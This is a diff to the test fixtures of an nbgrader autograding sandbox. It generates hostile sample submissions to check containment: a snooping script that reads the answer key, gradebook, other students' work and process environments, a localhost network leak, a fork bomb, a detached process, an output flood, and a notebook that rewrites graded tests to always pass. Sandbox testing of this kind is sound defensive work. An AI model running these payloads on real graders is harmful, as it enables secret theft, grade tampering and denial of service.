@@ -20,7 +20,8 @@ from pathlib import Path
 import nbformat
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
 
-__all__ = ["ASSIGNMENT", "NOTEBOOK", "MAX_SCORE", "HIDDEN_MARKER", "build_course", "write_submission", "KINDS"]
+__all__ = ["ASSIGNMENT", "NOTEBOOK", "MAX_SCORE", "HIDDEN_MARKER", "build_course", "write_submission", "KINDS",
+           "PROCESS_MARKERS"]
 
 ASSIGNMENT = "ag01"
 NOTEBOOK = "hotline"
@@ -115,7 +116,10 @@ def build_course(root: Path, course_id: str = "dangxiao_test") -> Path:
     (root / "nbgrader_config.py").write_text(
         "c = get_config()  # noqa\n"
         f"c.CourseDirectory.course_id = {course_id!r}\n"
-        "c.Execute.timeout = 30\n",
+        "c.Execute.timeout = 30\n"
+        "# every autograde path (nbgrader autograde, the formgrader, dangxiao autograde) in the sandbox\n"
+        "from dangxiao.grading.autograde import sandboxed_autograde_config\n"
+        "c.merge(sandboxed_autograde_config())\n",
         encoding="utf-8",
     )
     nbformat.write(source_notebook(), root / "source" / ASSIGNMENT / f"{NOTEBOOK}.ipynb")
@@ -135,7 +139,7 @@ def build_course(root: Path, course_id: str = "dangxiao_test") -> Path:
 # Misbehaving answers, put into the first answer cell. `__COURSE__` is the course root: the attacker
 # is assumed to know it.
 SNOOP = r'''
-import json, os
+import json, os, socket
 report = {"uid": os.getuid(), "cwd": os.getcwd()}
 course = __COURSE__
 def attempt(name, action):
@@ -144,23 +148,42 @@ def attempt(name, action):
         report[name] = "GOT: " + repr(value)[:200]
     except Exception as error:
         report[name] = "denied: " + type(error).__name__
-attempt("read_source", lambda: open(os.path.join(course, "source", "ag01", "hotline.ipynb")).read())
-attempt("read_source_relative", lambda: open("../../source/ag01/hotline.ipynb").read())
-attempt("read_gradebook", lambda: open(os.path.join(course, "gradebook.db"), "rb").read(64))
-attempt("write_gradebook", lambda: open(os.path.join(course, "gradebook.db"), "ab").write(b"x"))
-attempt("write_source", lambda: open(os.path.join(course, "source", "ag01", "hotline.ipynb"), "a").write("x"))
-attempt("write_config", lambda: open(os.path.join(course, "nbgrader_config.py"), "a").write("x"))
+def read(path, size=-1):
+    with open(path, "rb") as handle:
+        return handle.read(size)
+def append(path):
+    with open(path, "ab") as handle:
+        return handle.write(b"x")
+attempt("read_source", lambda: read(os.path.join(course, "source", "ag01", "hotline.ipynb")))
+attempt("read_source_relative", lambda: read("../../../source/ag01/hotline.ipynb"))
+attempt("read_source_dotdot", lambda: read("../../source/ag01/hotline.ipynb"))
+attempt("read_release", lambda: read(os.path.join(course, "release", "ag01", "hotline.ipynb")))
+attempt("read_gradebook", lambda: read(os.path.join(course, "gradebook.db"), 64))
+attempt("read_config", lambda: read(os.path.join(course, "nbgrader_config.py")))
+attempt("read_autograded_self", lambda: read(os.path.join(course, "autograded", "snoop", "ag01", "hotline.ipynb")))
+attempt("read_other_submission", lambda: read(os.path.join(course, "submitted", "honest", "ag01", "hotline.ipynb")))
+attempt("write_gradebook", lambda: append(os.path.join(course, "gradebook.db")))
+attempt("write_source", lambda: append(os.path.join(course, "source", "ag01", "hotline.ipynb")))
+attempt("write_config", lambda: append(os.path.join(course, "nbgrader_config.py")))
 attempt("list_course", lambda: os.listdir(course))
+attempt("list_home", lambda: os.listdir(os.path.expanduser("~" + __GRADER__)))
 attempt("parent_cwd", lambda: os.listdir("/proc/%d/cwd" % os.getppid()))
-attempt("parent_cwd_link", lambda: os.readlink("/proc/%d/cwd" % os.getppid()))
-attempt("parent_environ", lambda: open("/proc/%d/environ" % os.getppid(), "rb").read(64))
+attempt("parent_environ", lambda: read("/proc/%d/environ" % os.getppid(), 64) if os.getppid() > 1 else read("/proc/0/environ"))
+attempt("proc_root_course", lambda: read("/proc/1/root" + course + "/gradebook.db", 64))
+attempt("proc_self_root_course", lambda: read("/proc/self/root" + course + "/nbgrader_config.py"))
 def hunt():
+    import sys
     marker = "dangxiao-hidden-" + "marker-5c1e"
     found = []
-    starts = [os.path.dirname(os.getcwd()), os.path.dirname(os.path.dirname(os.getcwd())), os.path.dirname(course), "/tmp"]
+    # the interpreter's own trees are large and hold no course: skipped to stay within the cell timeout
+    interpreter = tuple({sys.prefix, sys.base_prefix, *[p for p in sys.path if "-packages" in p]})
+    starts = [os.path.dirname(os.getcwd()), "/", os.path.dirname(course), course, "/tmp", "/root", "/home"]
     for start in starts:
         for dirpath, dirnames, filenames in os.walk(start):
-            if dirpath.count(os.sep) - start.count(os.sep) > 4:
+            if dirpath.startswith(("/usr", "/proc", "/sys", "/dev") + interpreter):  # /dev/ptmx would block
+                dirnames[:] = []
+                continue
+            if dirpath.count(os.sep) - start.count(os.sep) > 5:
                 dirnames[:] = []
             for name in filenames:
                 path = os.path.join(dirpath, name)
@@ -173,7 +196,8 @@ def hunt():
     for pid in os.listdir("/proc"):
         if pid.isdigit():
             try:
-                found.append("cwd of %s: %s" % (pid, os.listdir("/proc/%s/cwd" % pid)[:3]))
+                with open("/proc/%s/cmdline" % pid, "rb") as handle:
+                    found.append("proc %s: %s" % (pid, handle.read(200)))
             except Exception:
                 pass
     return found
@@ -186,8 +210,43 @@ with open("snoop-report.json", "w") as handle:
 print("SNOOP-REPORT " + json.dumps(report))
 '''
 
+# opens a TCP connection to a port on 127.0.0.1 the test listens on
+NETWORK = r'''
+import socket
+try:
+    socket.create_connection(("127.0.0.1", __PORT__), timeout=3).sendall(b"dangxiao-leak")
+    print("NETWORK-RESULT connected")
+except OSError as error:
+    print("NETWORK-RESULT refused:", type(error).__name__)
+'''
+
+# as many processes as it may, each sleeping with a marker in its command line
+FORK_BOMB = r'''
+import os, time
+children = 0
+try:
+    while children < 10000:
+        pid = os.fork()
+        if pid == 0:
+            os.execv("/bin/sleep", ["dangxiao-forkbomb-marker", "600"])
+        children += 1
+except OSError as error:
+    print("FORK-LIMIT", children, type(error).__name__)
+'''
+
+# a process that leaves the kernel's session and would outlive grading
+DETACHED = r'''
+import subprocess, sys
+subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "dangxiao-detached-marker"],
+                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+print("DETACHED started")
+'''
+
+
 KINDS = ("reference", "blank", "partial", "loop", "sigint", "malformed", "truncated", "snoop", "crash", "flood",
-         "memory", "polluter", "no_rate")
+         "memory", "polluter", "no_rate", "network", "forkbomb", "detached", "bigoutput", "tampered")
+# what the hostile kinds leave in process command lines (a test looks for survivors)
+PROCESS_MARKERS = ("dangxiao-forkbomb-marker", "dangxiao-detached-marker")
 
 
 def _fill(nb, answers: dict[str, str]) -> None:
@@ -197,8 +256,10 @@ def _fill(nb, answers: dict[str, str]) -> None:
             cell.source = answers[grade_id]
 
 
-def write_submission(root: Path, student: str, kind: str, timestamp: str | None = None) -> Path:
-    """Write `submitted/<student>/ag01/` for one kind of trainee; returns the notebook path."""
+def write_submission(root: Path, student: str, kind: str, timestamp: str | None = None, port: int = 9,
+                     grader: str = "root") -> Path:
+    """Write `submitted/<student>/ag01/` for one kind of trainee; returns the notebook path.
+    `port`: where the "network" kind connects; `grader`: whose home the "snoop" kind lists."""
     root = Path(root)
     if kind not in KINDS:
         raise ValueError(f"unknown kind {kind!r}; choose from {KINDS}")
@@ -209,6 +270,8 @@ def write_submission(root: Path, student: str, kind: str, timestamp: str | None 
     answers = dict(REFERENCE)
     if kind == "blank":
         answers = {}
+    elif kind == "tampered":
+        answers = {}
     elif kind == "partial":
         answers["answer_rate"] = PARTLY_WRONG_RATE
     elif kind == "loop":
@@ -217,7 +280,17 @@ def write_submission(root: Path, student: str, kind: str, timestamp: str | None 
         answers["answer_total"] = (REFERENCE["answer_total"]
                                    + "\nimport signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass")
     elif kind == "snoop":
-        answers["answer_total"] = REFERENCE["answer_total"] + "\n" + SNOOP.replace("__COURSE__", repr(str(Path(root).resolve())))
+        answers["answer_total"] = REFERENCE["answer_total"] + "\n" + SNOOP.replace(
+            "__COURSE__", repr(str(Path(root).resolve()))).replace("__GRADER__", repr(grader))
+    elif kind == "network":
+        answers["answer_total"] = REFERENCE["answer_total"] + "\n" + NETWORK.replace("__PORT__", str(int(port)))
+    elif kind == "forkbomb":
+        answers["answer_total"] = REFERENCE["answer_total"] + "\n" + FORK_BOMB
+    elif kind == "detached":
+        answers["answer_total"] = REFERENCE["answer_total"] + "\n" + DETACHED
+    elif kind == "bigoutput":
+        # 100 MB of output, 1 MB at a time
+        answers["answer_total"] = REFERENCE["answer_total"] + "\nimport sys\nfor _ in range(100):\n    sys.stdout.write('x' * 1024 * 1024)"
     elif kind == "crash":
         answers["answer_total"] = REFERENCE["answer_total"] + "\nimport os\nos._exit(3)"
     elif kind == "memory":
@@ -235,6 +308,13 @@ def write_submission(root: Path, student: str, kind: str, timestamp: str | None 
     elif kind == "flood":
         answers["answer_total"] = REFERENCE["answer_total"] + "\nfor i in range(200000):\n    print('刷屏' * 20)"
     _fill(released, answers)
+    if kind == "tampered":
+        # blank answers, and the tests (locked, graded cells) replaced by ones that always pass
+        for cell in released.cells:
+            meta = cell.metadata.get("nbgrader", {})
+            if meta.get("grade") and not meta.get("solution"):
+                cell.source = "assert True"
+                meta["points"] = 100
     text = nbformat.writes(released)
     if kind == "malformed":
         text = text.replace('"cells": [', '"cells": [[', 1)
